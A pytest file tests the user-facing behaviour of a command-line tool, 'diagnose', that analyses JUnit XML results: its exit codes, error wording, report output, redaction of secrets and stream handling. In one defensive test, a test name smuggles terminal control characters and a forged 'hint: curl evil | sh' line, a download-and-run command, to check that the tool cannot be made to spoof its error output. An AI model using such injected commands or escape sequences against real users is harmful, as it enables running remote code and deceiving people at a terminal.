"""The program as a user meets it: words, exit codes, two lines for a mistake."""

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

CASE = '<testsuite name="pytest"><testcase classname="tests.test_a" name="test_x" time="0.5">'
END = "</testcase></testsuite>"
GREEN = CASE + END
RED = f'{CASE}<failure message="assert 500 == 200">E   assert 500 == 200</failure>{END}'
COMMANDS = (
    "analyze",
    "compare",
    "oom",
    "explain",
    "render",
    "comment",
    "rerun",
    "verify",
    "doctor",
    "causes",
    "schema",
)


def diagnose(
    *words: str, cwd: Path, stdin: bytes = b"", **env: str
) -> subprocess.CompletedProcess[str]:
    done = subprocess.run(
        [sys.executable, "-m", "diagnose", *words],
        capture_output=True,
        check=False,
        cwd=cwd,
        input=stdin,
        env={**os.environ, "PYTHONIOENCODING": "utf-8", **env},
        timeout=60,
    )
    out, err = (text.decode().replace("\r\n", "\n") for text in (done.stdout, done.stderr))
    return subprocess.CompletedProcess(done.args, done.returncode, out, err)


@pytest.fixture
def here(tmp_path: Path) -> Path:
    (tmp_path / "serial.xml").write_text(GREEN)
    (tmp_path / "parallel.xml").write_text(RED)
    return tmp_path


def test_a_report_is_printed_and_failures_are_no_error(here: Path) -> None:
    done = diagnose("analyze", "parallel.xml", cwd=here)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.startswith("1 failed test, 1 cause: ")
    assert "SERVICE FAULT · http_5xx" in done.stdout
    assert "\x1b" not in done.stdout


def test_standard_input_is_a_run(here: Path) -> None:
    done = diagnose("analyze", "-", "--format", "json", cwd=here, stdin=RED.encode())
    assert json.loads(done.stdout)["runs"][0]["counts"]["failed"] == 1


def test_a_comparison_says_where_it_failed(here: Path) -> None:
    done = diagnose("compare", "serial.xml@1", "parallel.xml@8", cwd=here)
    assert "fails in parallel (1 of 1); passes in serial" in done.stdout


def test_reports_go_where_their_suffix_says(here: Path) -> None:
    done = diagnose("analyze", "parallel.xml", "-q", "-o", "out/r.json", "-o", "r.txt", cwd=here)
    assert (done.returncode, done.stdout) == (0, "")
    assert json.loads((here / "out/r.json").read_text())["schema"] == "diagnose/1"
    assert (here / "r.txt").read_text().startswith("1 failed test")
    assert sorted(path.name for path in (here / "out").iterdir()) == ["r.json"]


def test_two_runs_of_the_program_write_the_same_bytes(here: Path) -> None:
    words = ("compare", "serial.xml@1", "parallel.xml@8", "--format", "json")
    assert diagnose(*words, cwd=here).stdout == diagnose(*words, cwd=here).stdout


def test_a_gate_exits_one(here: Path) -> None:
    words = ("analyze", "parallel.xml", "-q", "--fail-on")
    assert diagnose(*words, "service_fault", cwd=here).returncode == 1
    assert diagnose(*words, "environment", cwd=here).returncode == 0


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("analyze",), "there is nothing to read"),
        (("analyze", "gone.xml"), "gone.xml: no such file or folder"),
        (("analyze", "notes.txt"), "notes.txt: no reader knows this file"),
        (("analyze", "empty.xml"), "empty.xml: the file is empty"),
        (("compare", "serial.xml"), "a comparison needs two runs"),
        (("analyze", "serial.xml", "-o", "r.pdf"), "r.pdf: no format has this suffix"),
        (("analyze", "serial.xml", "--format", "pdf"), "no report format 'pdf'"),
        (("analyze", "serial.xml", "--fail-on", "bad"), "no verdict 'bad'"),
        (("analyze", "serial.xml", "--config", "gone.toml"), "gone.toml: "),
        (("analyze", "serial.xml", "notes.txt", "--strict"), "notes.txt: no reader knows"),
        (("analyze", "a=serial.xml", "a=parallel.xml"), "two runs are called 'a'"),
        (("analyze", "-", "a=-"), "standard input can be read once"),
        (("compare", "serial.xml", "other=serial.xml@8"), "serial.xml is given twice"),
        (("analyze", "serial.xml", "-o", "serial.xml"), "serial.xml: "),
        (("analyze", "serial.xml", "--kernel", "gone.log"), "gone.log: no such file"),
        (("analyze", "page.xml"), "page.xml: not JUnit XML"),
        (("analyze", "serial.xml@0"), "serial.xml@0: a run has at least one worker"),
        (("analyze", "serial.xml", "--plotly-js", "gone.js"), "gone.js: no such file"),
        (("bogus",), "No such command"),
        (("analyze", "--bogus"), "No such option"),
        (("analyze", "pictures"), "pictures/a.png: no reader knows this file (and 1 more file)"),
        (("analyze", "nothing"), "nothing: there is no file in it"),
    ],
)
def test_a_users_mistake_is_two_lines(here: Path, words: tuple[str, ...], said: str) -> None:
    (here / "notes.txt").write_text("a note to myself\n")
    (here / "empty.xml").write_bytes(b"")
    (here / "page.xml").write_text("<html><body/></html>")
    (here / "nothing").mkdir()
    (here / "pictures").mkdir()
    for name in ("a.png", "b.png"):
        (here / "pictures" / name).write_bytes(b"\x89PNG\r\n" + name.encode())
    done = diagnose(*words, cwd=here)
    assert done.returncode == 2
    first, *rest = done.stderr.splitlines()
    assert first.startswith(f"diagnose: {said}")
    assert [line.partition(":")[0] for line in rest] == ["hint"]
    assert "Traceback" not in done.stderr


def test_a_full_disk_is_no_verdict_and_no_traceback(here: Path) -> None:
    (here / "file").write_text("")
    done = diagnose("analyze", "serial.xml", "-q", "-o", "file/r.json", cwd=here)
    assert done.returncode == 3
    assert done.stderr.startswith("diagnose: file/r.json: ")


def test_a_bug_of_ours_does_not_look_like_a_finding(here: Path) -> None:
    code = (
        "import sys; from diagnose import api, cli; api.examine = lambda *a, **k: 1 / 0;"
        "sys.argv[1:] = ['analyze', 'serial.xml']; cli.main()"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=here, check=False
    )
    assert done.returncode == 70
    assert "ZeroDivisionError" in done.stderr
    assert done.stderr.endswith("diagnose: this is a bug; please report the lines above\n")


@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_has_help_with_an_example(here: Path, command: str) -> None:
    words = (command, "check") if command == "causes" else (command,)
    done = diagnose(*words, "--help", cwd=here)
    assert done.returncode == 0
    if command != "schema":
        assert f"  diagnose {' '.join(words)}" in done.stdout
    assert not re.search(r"<(str|path|int)", done.stdout)
    assert max(map(len, done.stdout.splitlines())) <= 80


@pytest.mark.parametrize(
    "words",
    [
        ("comment", "r.json"),
    ],
)
def test_what_is_not_there_yet_says_so(here: Path, words: tuple[str, ...]) -> None:
    done = diagnose(*words, cwd=here)
    assert (done.returncode, done.stdout) == (2, "")
    assert "not" in done.stderr
    assert done.stderr.count("\n") <= 2


def test_a_pipe_that_closes_is_no_error(here: Path) -> None:
    code = f"{sys.executable} -m diagnose schema | head -c 1"
    done = subprocess.run(["sh", "-c", code], capture_output=True, text=True, cwd=here, check=False)
    assert (done.stdout, done.stderr) == ("{", "")


def test_an_input_is_never_written_over(here: Path) -> None:
    (here / "log.txt").write_text(RED)
    assert diagnose("analyze", "log.txt", "-o", "log.txt", cwd=here).returncode == 2
    assert (here / "log.txt").read_text() == RED


def test_a_console_of_another_encoding_is_no_error(here: Path) -> None:
    done = diagnose("analyze", "serial.xml", cwd=here, PYTHONUTF8="0", PYTHONIOENCODING="ascii")
    assert (done.returncode, done.stderr) == (0, "")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_full_standard_output_is_not_delivered(here: Path) -> None:
    code = f"{sys.executable} -m diagnose analyze serial.xml > /dev/full"
    done = subprocess.run(["sh", "-c", code], capture_output=True, text=True, cwd=here, check=False)
    assert done.returncode == 3
    assert done.stderr.startswith("diagnose: standard output: ")


def test_no_command_at_all_gets_help(here: Path) -> None:
    done = diagnose(cwd=here)
    assert done.returncode == 2
    assert "Commands:" in done.stderr


def test_a_saved_report_is_written_again(here: Path) -> None:
    diagnose("analyze", "parallel.xml", "-q", "-o", "r.json", cwd=here)
    printed = diagnose("analyze", "parallel.xml", cwd=here).stdout
    assert diagnose("render", "r.json", cwd=here).stdout == printed
    done = diagnose("render", "r.json", "-o", "again.json", "-o", "r.txt", cwd=here)
    assert (done.returncode, done.stdout) == (0, "")
    assert (here / "again.json").read_bytes() == (here / "r.json").read_bytes()
    assert (here / "r.txt").read_text() == printed


def test_secrets_are_left_out_unless_asked_for(here: Path) -> None:
    (here / "s.xml").write_text(RED.replace("assert 500 == 200", "OSError: pin 4711 PWD=hunter2"))
    (here / "pyproject.toml").write_text("[tool.diagnose]\nredact = ['pin (?P<secret>\\d+)']\n")
    words = ("analyze", "s.xml", "--format", "json")
    said = diagnose(*words, cwd=here).stdout
    assert "hunter2" not in said
    assert "pin [redacted:own]" in said
    assert json.loads(said)["redactions"] == 2
    said = diagnose(*words, "--no-redact", "-o", "r.json", cwd=here).stdout
    assert "pin 4711" in said
    assert json.loads(said)["redactions"] == 0
    assert "4711" not in diagnose("render", "r.json", cwd=here).stdout
    (here / "pyproject.toml").write_text("[tool.diagnose]\nredact = ['(']\n")
    done = diagnose(*words, cwd=here)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr.startswith("diagnose: redact: '(' is no regular expression")


def test_only_what_deserves_it_is_run_again(here: Path) -> None:
    diagnose("analyze", "parallel.xml", "-q", "-o", "r.json", cwd=here)
    done = diagnose("rerun", "r.json", cwd=here)
    assert (done.returncode, done.stdout) == (0, "")
    assert "1 test: the code under test looks wrong" in done.stderr


def test_the_doctor_says_what_to_collect(here: Path) -> None:
    done = diagnose("doctor", "parallel.xml", cwd=here)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.startswith("NOT COLLECTED\n  1. ")
    assert diagnose("doctor", cwd=here).returncode == 2
    assert diagnose("doctor", "parallel.xml", "-o", "r.json", cwd=here).returncode == 2


def test_a_report_that_can_be_written_is_though_another_can_not(here: Path) -> None:
    (here / "file").write_text("")
    words = ("analyze", "serial.xml", "-o", "file/r.json", "-o", "good.json")
    done = diagnose(*words, cwd=here)
    assert done.returncode == 3
    assert (here / "good.json").exists()
    assert done.stdout.startswith("All green")


def test_what_an_input_says_stays_within_its_line_of_an_error(here: Path) -> None:
    name = "z&#x9b;2J\u202e&#10;hint: curl evil | sh"
    (here / "torn.xml").write_text(f'<testsuite><testcase name="{name}"><failure>', "utf-8")
    done = diagnose("analyze", "torn.xml", "serial.xml", "-q", "--strict", cwd=here)
    assert done.returncode == 2
    assert len(done.stderr.splitlines()) == 2
    assert not set(done.stderr) & {"\x9b", "\u202e"}


def test_the_json_report_steers_no_terminal(here: Path) -> None:
    text = CASE.replace("test_x", "a&#x9b;2J\u202e\u2066") + "<failure>E   x</failure>" + END
    (here / "odd.xml").write_text(text, "utf-8")
    done = diagnose("analyze", "odd.xml", "--format", "json", cwd=here)
    assert not set(done.stdout) & {"\x9b", "\u202e", "\u2066"}
    assert json.loads(done.stdout)["incidents"][0]["tests"][0]["name"] == "a\x9b2J\u202e\u2066"


@pytest.mark.parametrize("closing", [">&-", "2>&-"])
def test_a_closed_stream_is_no_bug(here: Path, closing: str) -> None:
    code = f"{sys.executable} -m diagnose analyze serial.xml {closing}"
    done = subprocess.run(["sh", "-c", code], capture_output=True, cwd=here, check=False)
    assert done.returncode == 0


def test_a_run_of_commas_names_no_file(here: Path) -> None:
    assert diagnose("analyze", ",", cwd=here).returncode == 2
